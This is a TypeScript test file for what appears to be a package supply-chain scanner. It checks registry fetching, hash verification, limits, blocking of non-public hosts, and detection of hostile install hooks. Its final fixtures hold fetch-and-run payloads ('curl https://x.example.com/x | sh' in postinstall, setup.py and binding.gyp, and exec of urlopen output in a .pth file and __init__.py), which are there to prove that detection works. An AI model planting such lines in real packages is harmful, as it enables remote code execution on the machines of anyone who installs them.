// The look into packages as a whole: against a server, and through the inspectors that read what it gives.
import { describe, expect, it } from 'vitest';
import type { AddedPackage } from '../../src/core/package.ts';
import { RuleBook } from '../../src/core/rule.ts';
import { loadRules } from '../../src/core/rulebook.ts';
import { inspectorsFor } from '../../src/inspect/inspectors.ts';
import { inspectFile } from '../../src/inspect/walk.ts';
import { inspectPackages, type RegistryOptions } from '../../src/registry/packages.ts';
import type { RegistryMember } from '../../src/registry/requests.ts';
import type { Places } from '../../src/registry/places.ts';
import { publicRegistries } from '../../src/registry/registry.ts';
import { json, type RegistryServer, startRegistry } from './registry-server.ts';
import { added, digest, options, tarball, wheel } from './samples.ts';

/** Puts a package with a file into the registry, and gives the entry of a lockfile. */
function publish(
  server: RegistryServer,
  bytes: Uint8Array,
  { name = 'a', ...differing }: Partial<AddedPackage> = {},
  release: object = {},
): AddedPackage {
  server.answers.set(`/${name}`, json({ versions: { '1.0.0': release } }));
  server.answers.set(`/${name}/-/${name}-1.0.0.tgz`, { body: bytes });
  return added({ name, hashes: [digest(bytes)], ...differing });
}

function look(
  server: RegistryServer,
  packages: readonly AddedPackage[],
  differing: Partial<RegistryOptions> = {},
) {
  return inspectPackages(packages, options(server, differing));
}

/** A cache that has these bytes for whoever asks. */
function cacheOf(bytes: Uint8Array): NonNullable<RegistryOptions['cache']> {
  return { get: () => Promise.resolve(bytes) };
}

const PACKAGE = tarball({
  'package.json': '{"name": "a", "version": "1.0.0"}',
  'index.js': 'module.exports = 1;\n',
});

describe('a package of npm', () => {
  it('is given to be inspected, as a member of the lockfile', async () => {
    const server = await startRegistry();
    const { occurrences, members, notices } = await look(server, [publish(server, PACKAGE)]);
    expect(occurrences).toEqual([]);
    expect(notices).toEqual([]);
    expect(members).toMatchObject([{ path: 'package-lock.json', members: ['a@1.0.0'], line: 7 }]);
    expect(Buffer.from((await members[0]?.bytes.read(0, 1e6)) ?? [])).toEqual(PACKAGE);
  });

  it('is taken from the address in the lockfile', async () => {
    const server = await startRegistry();
    server.answers.set('/elsewhere.tgz', { body: PACKAGE });
    const release = publish(server, Buffer.from('not this'), { url: `${server.origin}/elsewhere.tgz` });
    const { members } = await look(server, [{ ...release, hashes: [digest(PACKAGE)] }]);
    expect(members).toHaveLength(1);
  });

  it('with other bytes than the lockfile names is a finding, and is not given', async () => {
    const server = await startRegistry();
    const release = publish(server, PACKAGE, { hashes: [digest('what was meant')] });
    const { occurrences, members } = await look(server, [release]);
    expect(members).toEqual([]);
    expect(occurrences).toMatchObject([
      {
        rule: 'PACKAGE-ARTIFACT-MISMATCH',
        occurrence: { location: { path: 'package-lock.json', members: [], line: 7 } },
      },
    ]);
    expect(occurrences[0]?.occurrence.severity).toBeUndefined();
    expect(occurrences[0]?.occurrence.evidence).toMatch(/^brings in a 1\.0\.0, .* sha512 [0-9a-f]{128}$/);
  });

  it("is verified by the registry's hash where the lockfile has none, which is said", async () => {
    const server = await startRegistry();
    const hashes = [{ algorithm: 'yarn-10c0', value: 'a'.repeat(128) }];
    const dist = { integrity: `sha512-${digest(PACKAGE).value}` };
    const { members, notices } = await look(server, [publish(server, PACKAGE, { hashes }, { dist })]);
    expect(members).toHaveLength(1);
    expect(notices).toEqual([expect.stringContaining("the registry's own was taken: a 1.0.0.")]);
  });

  it('that the registry contradicts itself about is not looked into', async () => {
    const server = await startRegistry();
    const dist = { shasum: digest('other', 'sha1').value };
    const { occurrences, members, notices } = await look(server, [
      publish(server, PACKAGE, { hashes: [] }, { dist }),
    ]);
    expect([...occurrences, ...members]).toEqual([]);
    expect(notices).toEqual([expect.stringContaining('not looked into')]);
  });

  it('is looked into though nothing is known of it', async () => {
    const server = await startRegistry();
    const release = publish(server, PACKAGE);
    server.answers.set('/a', { body: 'garbage' });
    const { members, notices } = await look(server, [release]);
    expect(members).toHaveLength(1);
    expect(notices).toEqual([expect.stringMatching(/not looked up \(the answer is no JSON\): a 1\.0\.0\.$/)]);
  });

  it('of an earlier run is not fetched again', async () => {
    const server = await startRegistry();
    const dist = { integrity: `sha512-${digest(PACKAGE).value}` };
    const release = publish(server, PACKAGE, {}, { dist });
    const first = await look(server, [release]);
    expect(first.fresh).toMatchObject([
      { digest: { algorithm: 'sha512' }, bytes: { length: PACKAGE.length } },
    ]);
    server.requests.length = 0;
    const { members, fresh } = await look(server, [release], { cache: cacheOf(PACKAGE) });
    expect(members).toHaveLength(1);
    expect(fresh).toEqual([]);
    expect(server.requests).toEqual(['GET /a application/json']);
  });

  it.each([
    ['names another digest than the lockfile', { integrity: `sha512-${digest('other').value}` }],
    ['names none', {}],
  ])('is fetched again where the registry %s', async (_, dist) => {
    const server = await startRegistry();
    const release = publish(
      server,
      Buffer.from('now something else'),
      { hashes: [digest(PACKAGE)] },
      { dist },
    );
    const { occurrences, members } = await look(server, [release], { cache: cacheOf(PACKAGE) });
    expect(members).toEqual([]);
    expect(occurrences).toMatchObject([{ rule: 'PACKAGE-ARTIFACT-MISMATCH' }]);
  });

  it('of an earlier run counts for what one run brings', async () => {
    const server = await startRegistry();
    const dist = { integrity: `sha512-${digest(PACKAGE).value}` };
    const release = publish(server, PACKAGE, {}, { dist });
    const limits = { bytesPerRun: PACKAGE.length - 1, bytesPerAnswer: 1e6 };
    const { members } = await look(server, [release], { cache: cacheOf(PACKAGE), limits });
    expect(members).toEqual([]);
  });

  it('is judged by its age where somebody asks for one', async () => {
    const server = await startRegistry();
    const release = publish(server, PACKAGE);
    server.answers.set(
      '/a',
      json({ versions: { '1.0.0': {} }, time: { '1.0.0': '2026-01-01T00:00:00.000Z' } }),
    );
    const rulesAt = async (differing: Partial<RegistryOptions>): Promise<string[]> =>
      (await look(server, [release], differing)).occurrences.map(({ rule }) => rule);
    expect(await rulesAt({ youngSince: new Date('2025-12-31T00:00:00Z') })).toEqual(['REGISTRY-YOUNG']);
    expect(await rulesAt({ youngSince: new Date('2026-01-01T00:00:00Z') })).toEqual([]);
    expect(await rulesAt({})).toEqual([]);
  });
});

describe('a package of Python', () => {
  const WHEEL = wheel({ 'a/__init__.py': 'x = 1\n' });
  const release = (hashes = [digest(WHEEL, 'sha256')]) =>
    added({ ecosystem: 'pypi', name: 'A_b', path: 'uv.lock', hashes });

  async function serve(more: object = {}): Promise<RegistryServer> {
    const server = await startRegistry();
    const hashes = { sha256: digest(WHEEL, 'sha256').value };
    const file = { filename: 'a_b-1.0.0-py3-none-any.whl', url: '../../files/a.whl', hashes };
    server.answers.set('/simple/a-b/', json({ files: [file], ...more }));
    server.answers.set('/files/a.whl', { body: WHEEL });
    return server;
  }

  it('is found by its hash', async () => {
    const { occurrences, members, notices } = await look(await serve(), [release()]);
    expect([...occurrences, ...notices]).toEqual([]);
    expect(members).toMatchObject([{ path: 'uv.lock', members: ['A_b@1.0.0'] }]);
  });

  it('that is not among the files of the release needs a look', async () => {
    const { occurrences } = await look(await serve(), [release([digest('other', 'sha256')])]);
    expect(occurrences).toMatchObject([
      { rule: 'PACKAGE-ARTIFACT-MISMATCH', occurrence: { severity: 'MEDIUM' } },
    ]);
  });

  const SOURCE = tarball({
    'setup.py': 'from setuptools import setup\nsetup()\n',
    'data.txt': Array.from({ length: 99 }, (_, n) => digest(`${n}`).value).join('\n'),
  });
  const source = { filename: 'a_b-1.0.0.tar.gz', url: '../../files/a.tar.gz' };
  const wheelFile = { filename: 'a_b-1.0.0-py3-none-any.whl', url: '../../files/a.whl' };
  const listed = (file: object, bytes: Uint8Array): object => ({
    ...file,
    hashes: { sha256: digest(bytes, 'sha256').value },
  });
  const both = [listed(wheelFile, WHEEL), listed(source, SOURCE)];

  it('is looked into as wheel and as source, which is built where the wheel does not fit', async () => {
    const server = await serve({ files: both });
    server.answers.set('/files/a.tar.gz', { body: SOURCE });
    const hashes = [WHEEL, SOURCE].map((bytes) => digest(bytes, 'sha256'));
    const { members, notices, occurrences } = await look(server, [release(hashes)]);
    expect([...occurrences, ...notices]).toEqual([]);
    expect(members.map((member) => member.members)).toEqual([['A_b@1.0.0'], ['A_b@1.0.0 (source)']]);
  });

  it('whose source is other bytes than the lockfile names is a finding', async () => {
    const server = await serve({ files: both });
    server.answers.set('/files/a.tar.gz', { body: 'something else' });
    const hashes = [WHEEL, SOURCE].map((bytes) => digest(bytes, 'sha256'));
    const { members, occurrences } = await look(server, [release(hashes)]);
    expect(members).toHaveLength(1);
    expect(occurrences.map(({ rule }) => rule)).toEqual(['PACKAGE-ARTIFACT-MISMATCH']);
  });

  it('is looked into once where the lockfile names one kind of file', async () => {
    const server = await serve({ files: both });
    server.answers.set('/files/a.tar.gz', { body: SOURCE });
    for (const bytes of [WHEEL, SOURCE]) {
      const { members } = await look(server, [release([digest(bytes, 'sha256')])]);
      expect(members.map((member) => member.members)).toEqual([['A_b@1.0.0']]);
    }
  });

  it('says so when there is no room for the source', async () => {
    const server = await serve({ files: both });
    server.answers.set('/files/a.tar.gz', { body: SOURCE });
    const { members, notices } = await look(
      server,
      [release([WHEEL, SOURCE].map((bytes) => digest(bytes, 'sha256')))],
      { limits: { bytesPerArtifact: SOURCE.length - 1 } },
    );
    expect(members).toHaveLength(1);
    expect(notices.join()).toMatch(/not looked into .*: A_b 1\.0\.0\.$/);
    expect(SOURCE.length).toBeGreaterThan(WHEEL.length);
  });

  it('in quarantine has no files, and is known for what it is', async () => {
    const server = await serve({ files: [], 'project-status': { status: 'quarantined', reason: 'malware' } });
    const { occurrences } = await look(server, [release()]);
    expect(occurrences.map(({ rule }) => rule)).toEqual(['REGISTRY-QUARANTINED']);
    expect(occurrences[0]?.occurrence.evidence).toContain('malware');
  });
});

describe('many packages', () => {
  it('are asked about once each, and fetched until the count is reached: those that look worst first', async () => {
    const server = await startRegistry();
    const names = ['a', 'b', 'c', 'd'];
    const packages = names.map((name) => publish(server, tarball({ name }), { name }));
    server.answers.set(
      '/c',
      json({ versions: { '0.9.0': {}, '1.0.0': { scripts: { postinstall: 'node x.js' } } } }),
    );
    server.answers.set('/b', json({ versions: { '1.0.0': { scripts: { install: 'node-gyp rebuild' } } } }));
    const { members, notices, occurrences } = await look(server, [...packages, ...packages], {
      limits: { artifacts: 2 },
    });
    expect(members.map((member) => member.members[0])).toEqual(['c@1.0.0', 'b@1.0.0']);
    expect(occurrences.map(({ rule }) => rule)).toEqual(['REGISTRY-NEW-INSTALL-SCRIPT']);
    expect(notices).toEqual([expect.stringContaining('2 of 4 packages were not looked into')]);
    expect(server.requests.filter((request) => request.endsWith('json'))).toHaveLength(4);
  });

  it('of one name and version are two when their addresses differ', async () => {
    const server = await startRegistry();
    server.answers.set('/evil.tgz', { body: 'evil' });
    const honest = publish(server, PACKAGE);
    const other = { ...honest, url: `${server.origin}/evil.tgz`, line: 9 };
    const { occurrences, members } = await look(server, [honest, other]);
    expect(members).toHaveLength(1);
    expect(occurrences[0]?.occurrence.location.line).toBe(9);
  });

  it('share the bytes of the run', async () => {
    const server = await startRegistry();
    const bytes = Buffer.alloc(1000, 1);
    const packages = ['a', 'b', 'c'].map((name) => publish(server, bytes, { name }));
    const { members, notices } = await look(server, packages, { limits: { bytesPerRun: 2500 } });
    expect(members).toHaveLength(2);
    expect(notices).toEqual([
      expect.stringMatching(/larger than what is fetched in one run\): . 1\.0\.0\.$/),
    ]);
  });

  it('that are too large are named', async () => {
    const server = await startRegistry();
    const { members, notices } = await look(server, [publish(server, Buffer.alloc(1000))], {
      limits: { bytesPerArtifact: 999 },
    });
    expect(members).toEqual([]);
    expect(notices).toEqual([
      'Registry: these packages were not looked into (it is larger than 999 bytes): a 1.0.0.',
    ]);
  });

  it('that are private or of other ecosystems are told to nobody', async () => {
    const server = await startRegistry();
    const secret = publish(server, PACKAGE, { isPublic: false });
    const { notices, members } = await look(server, [secret, added({ ecosystem: 'cargo' })]);
    expect(server.requests).toEqual([]);
    expect(members).toEqual([]);
    expect(notices).toEqual([expect.stringContaining('2 packages were not looked into')]);
  });

  it.each([
    ['another host', 'https://evil.example.com/a.tgz'],
    ['the network of the runner', 'http://169.254.169.254/a.tgz'],
  ])('at an address of %s are not asked for', async (_, url) => {
    const server = await startRegistry();
    const { notices } = await look(server, [publish(server, PACKAGE, { url })]);
    expect(server.requests).toEqual([]);
    expect(notices.join()).toContain('is no public registry');
  });

  it('end with the time: what is not there is said', async () => {
    const server = await startRegistry();
    server.answers.set('/a', { body: 'half', hangs: true });
    const release = added({ hashes: [digest(PACKAGE)] });
    const { notices, members } = await look(server, [release], { signal: AbortSignal.timeout(50) });
    expect(members).toEqual([]);
    expect(notices).toHaveLength(2);
    expect(notices.join()).toContain('there was no answer in time');
  });
});

describe('a run', () => {
  const inspect = (): Promise<never[]> => Promise.resolve([]);
  const rulesOf = (knowledge: Places): RuleBook =>
    new RuleBook([{ surface: 'registry', knowledge, rules: [] }]);

  it('gives what registries say and what inspectors find', async () => {
    const server = await startRegistry();
    const release = publish(server, PACKAGE, {}, { scripts: { install: 'x' } });
    const asked: string[] = [];
    const { occurrences, findings, notices } = await publicRegistries({ fetch })([release], {
      rules: rulesOf(server.places),
      inspect: ({ members: [name = ''] }) => Promise.resolve(void asked.push(name)).then(inspect),
    });
    expect([...occurrences, ...findings, ...notices]).toEqual([]);
    expect(asked).toEqual(['a@1.0.0']);
  });

  it('says why nothing was looked into when nobody answers', async () => {
    const own = { registry: 'http://127.0.0.1:39999', names: [], hosts: ['127.0.0.1:39999'] };
    const given = { rules: rulesOf({ npm: own, pypi: own }), inspect };
    const release = added({ hashes: [digest(PACKAGE)] });
    const { notices } = await publicRegistries({ fetch })([release], given);
    expect(notices.join()).toMatch(/ECONNREFUSED/);
  }, 20_000);
});

describe('what is in a package', () => {
  /** The findings as `rule at member > member`. */
  async function findingsIn(member: RegistryMember | undefined): Promise<string[]> {
    if (member === undefined) return [];
    const rules = await loadRules();
    const context = { rules, allowedGlobals: new Set<string>(), openLfs: () => Promise.resolve(undefined) };
    const { path, members, bytes } = member;
    const { findings } = await inspectFile(
      { locator: { path, members }, bytes },
      context,
      inspectorsFor(rules),
    );
    return findings.map(({ rule, location }) => `${rule} at ${location.members.join(' > ')}`);
  }

  async function inspected(bytes: Uint8Array): Promise<string[]> {
    const server = await startRegistry();
    const { members } = await look(server, [publish(server, bytes)]);
    return findingsIn(members[0]);
  }

  it('says nothing of honest code', async () => {
    expect(await inspected(PACKAGE)).toEqual([]);
  });

  it.each([
    [
      'an install hook',
      tarball({
        'package.json': '{"name": "a", "scripts": {"postinstall": "curl https://x.example.com/x | sh"}}',
      }),
      /^HOOK-.* > package\/package\.json$/,
    ],
    [
      'a command in the description of a build',
      tarball({ 'binding.gyp': '{"targets": [{"target_name": "<!(curl https://x.example.com/x | sh)"}]}' }),
      /^HOOK-.* > package\/binding\.gyp$/,
    ],
    [
      'a start-up file of Python',
      wheel({
        'a.pth':
          'import os; exec(__import__("urllib.request").request.urlopen("https://x.example.com").read())\n',
      }),
      /^(?:HOOK|CODE)-.* > a\.pth$/,
    ],
    [
      'a script of the installation',
      tarball({ 'setup.py': 'import os\nos.system("curl https://x.example.com/x | sh")\n' }),
      /^(?:HOOK|CODE)-.* > package\/setup\.py$/,
    ],
    [
      'code that runs at import',
      wheel({
        'a/__init__.py':
          'import urllib.request\nexec(urllib.request.urlopen("https://x.example.com/x").read())\n',
      }),
      /^CODE-.* > a\/__init__\.py$/,
    ],
  ])('is found when it is %s', async (_, bytes, expected) => {
    expect(await inspected(bytes)).toContainEqual(expect.stringMatching(expected));
  });
});
